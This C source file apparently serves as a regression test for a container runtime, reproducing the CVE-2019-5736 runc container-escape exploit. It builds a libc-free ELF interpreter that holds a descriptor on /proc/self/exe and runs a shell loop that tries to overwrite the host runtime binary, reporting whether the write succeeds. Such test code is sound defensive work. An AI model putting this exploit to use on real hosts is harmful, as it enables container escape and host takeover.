// SPDX-License-Identifier: GPL-2.0-or-later
/* exe-interp.c: the attack of CVE-2019-5736, as an image would carry it.
 * Built static without libc and installed in a rootfs as the ELF
 * interpreter (/lib64/ld-linux-x86-64.so.2). A script starting
 * "#!/proc/self/exe" makes the kernel run the runtime's own binary with
 * this interpreter: we keep an fd on /proc/self/exe (the runtime's file if
 * it is not protected) and exec the second stage, a shell loop that tries
 * to write through /proc/self/fd/3 once the runtime has exited. */
#include <fcntl.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

static const char stage2[] =
    "i=0; while [ $i -lt 60 ]; do"
    " if (printf PWNED 1<>/proc/self/fd/3) 2>/dev/null; then echo wrote-exe; exit 0; fi;"
    " i=$((i + 1)); sleep 0.05; done; echo exe-not-writable; exit 0";

void _start(void)
{
	static char *argv[] = {"sh", "-c", (char *)stage2, 0};
	static char *envp[] = {"PATH=/bin:/usr/bin", 0};
	long fd = sys3(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY);

	if (fd >= 0 && fd != 3) {
		sys3(SYS_dup2, fd, 3, 0);
	}
	sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
	sys3(SYS_exit, 99, 0, 0);
	for (;;)
		;
}
